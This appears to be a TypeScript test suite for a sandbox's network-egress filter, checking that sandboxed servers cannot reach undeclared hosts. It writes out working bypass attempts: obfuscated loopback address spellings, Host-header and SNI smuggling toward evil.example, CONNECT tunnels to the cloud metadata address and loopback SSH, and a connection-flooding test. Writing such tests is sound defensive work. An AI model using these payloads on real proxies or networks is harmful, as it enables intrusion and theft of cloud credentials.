import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:net'
import test, { type TestContext } from 'node:test'
import { proves } from '../guide/proves.ts'
import { listener, playScene } from './egress/scene.ts'
import { people, skip } from './sandbox/play.ts'

const node = '/usr/bin/node'

/** A listener that keeps every byte it was ever sent. */
async function collector(t: TestContext): Promise<{ port: number; heard: () => string; connections: () => number }> {
  let [text, connections] = ['', 0]
  const server = createServer(socket => {
    connections++
    socket
      .on('error', () => undefined)
      .on('data', bytes => {
        text += bytes.toString('latin1')
        socket.end('HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok')
      })
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  t.after(() => server.close())
  const address = server.address()
  const port = typeof address === 'object' && address !== null ? address.port : 0
  return { port, heard: () => text, connections: () => connections }
}

const dialling = (port: number) => `
  const net = require('node:net'), tls = require('node:tls')
  const dial = (host, label, ...parts) => new Promise(done => {
    const say = how => { console.log(JSON.stringify({ label, how })); socket.destroy(); done() }
    const socket = net.connect({ host, port: ${port}, autoSelectFamily: false })
    socket.on('error', e => say(e.code)).on('end', () => say('ended')).on('data', () => say('answered'))
    socket.on('connect', async () => {
      for (const part of parts) { socket.write(part); await new Promise(r => setTimeout(r, 60)) }
    })
    setTimeout(() => say('silence'), 4000).unref()
  })`

for (const person of people) {
  test(`${person.name}: no spelling of an address is a name that was declared`, {
    skip,
    ...proves('T4.isolate'),
  }, async t => {
    const { port, heard, connections } = await collector(t)
    const spellings = [
      '2130706433',
      '0x7f000001',
      '0177.0.0.1',
      '127.1',
      '0.0.0.0',
      '0',
      '[::]',
      '::ffff:7f00:1',
      'localhost',
    ]
    const code = `${dialling(port)}
      const main = async () => { for (const host of ${JSON.stringify(spellings.map(name => name.replace(/[[\]]/gu, '')))}) await dial(host, host, 'stolen') }
      main()`
    const servers = [{ name: 'a', command: [node, '-e', code], hosts: [`allowed.example:${port}`] }]
    const scene = playScene(t, person, { servers, names: { 'allowed.example': ['127.0.0.1'] } })
    await scene.ended()
    const said = scene.said('a').map(line => JSON.parse(line))
    assert.equal(said.length, spellings.length)
    assert.deepEqual(
      said.filter(({ how }) => how === 'answered' || how === 'silence'),
      [],
    )
    assert.deepEqual([heard(), connections()], ['', 0])
    assert.ok(scene.seen('dial').every(({ verdict }) => verdict === 'refuse'))
  })

  test(`${person.name}: a declared host is no way to another name, however it is asked for`, {
    skip,
    ...proves('T4.isolate', 'T4.monitor'),
  }, async t => {
    const { port, heard } = await collector(t)
    const host = `allowed.example:${port}`
    const code = `${dialling(port)}
      const hello = name => new Promise(done => {
        const { Duplex } = require('node:stream')
        const wire = new Duplex({ read() {}, write(bytes, _, next) { done(bytes); next() } })
        tls.connect({ socket: wire, servername: name }).on('error', () => undefined)
      })
      const main = async () => {
        const here = 'allowed.example'
        await dial(here, 'honest', 'GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n')
        await dial(here, 'other host', 'GET /secret HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')
        await dial(here, 'host in pieces', 'GET /secret HTTP/1.1\\r\\nHo', 'st: evil.ex', 'ample\\r\\n\\r\\n')
        await dial(here, 'two hosts', 'GET /secret HTTP/1.1\\r\\nHost: ${host}\\r\\nHost: evil.example\\r\\n\\r\\n')
        await dial(here, 'absolute form', 'GET http://evil.example/secret HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n')
        await dial(here, 'empty lines first', '\\r\\n\\r\\nGET /secret HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')
        await dial(here, 'proxy to another', 'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n')
        await dial(here, 'proxy to metadata', 'CONNECT 169.254.169.254:80 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
        await dial(here, 'proxy to loopback', 'CONNECT 127.0.0.1:22 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
        const evil = await hello('evil.example')
        await dial(here, 'other server name', evil)
        await dial(here, 'server name in pieces', evil.subarray(0, 40), evil.subarray(40))
      }
      main()`
    const servers = [{ name: 'a', command: [node, '-e', code], hosts: [host] }]
    const names = { 'allowed.example': ['127.0.0.1'] }
    const scene = playScene(t, person, { servers, names, privateNames: ['allowed.example'] })
    await scene.ended()
    const said = new Map(
      scene
        .said('a')
        .map(line => JSON.parse(line))
        .map(({ label, how }) => [label, how]),
    )
    assert.equal(said.get('honest'), 'answered')
    assert.equal(said.size, 11)
    for (const [label, how] of said) if (label !== 'honest') assert.equal(how, 'ECONNRESET', label)
    assert.doesNotMatch(heard(), /secret|evil|CONNECT/u)
    assert.equal(scene.seen('dial').filter(({ verdict }) => verdict === 'refuse').length, 10)
  })

  test(`${person.name}: a server that opens hundreds of connections and says nothing starves nobody else`, {
    skip,
  }, async t => {
    const { port } = await listener(t)
    const url = `http://allowed.example:${port}/`
    const hoard = `
      const net = require('node:net'); let [open, reset] = [0, 0]
      for (let i = 0; i < 400; i++) net.connect(${port}, 'allowed.example', () => open++).on('error', () => reset++)
      setTimeout(() => console.log(JSON.stringify({ reset })), 2500)
      setTimeout(() => process.exit(), 5000)`
    const fetching = `
      const main = async () => {
        await new Promise(r => setTimeout(r, 2600))
        const began = performance.now(); const text = await fetch('${url}').then(r => r.text(), e => e.cause?.code)
        console.log(JSON.stringify({ text, ms: performance.now() - began }))
      }
      main()`
    const hosts = [`allowed.example:${port}`]
    const scene = playScene(t, person, {
      servers: [
        { name: 'hoard', command: [node, '-e', hoard], hosts },
        { name: 'neighbour', command: [node, '-e', fetching], hosts },
      ],
      names: { 'allowed.example': ['127.0.0.1'] },
      privateNames: ['allowed.example'],
    })
    await scene.ended()
    const [{ reset }, { text, ms }] = ['hoard', 'neighbour'].map(name => JSON.parse(scene.said(name)[0] ?? '{}'))
    assert.ok(reset >= 100, `${reset} of 400 were refused`)
    assert.match(text, /hello allowed/u)
    assert.ok(ms < 3000, `${ms} ms`)
  })
}
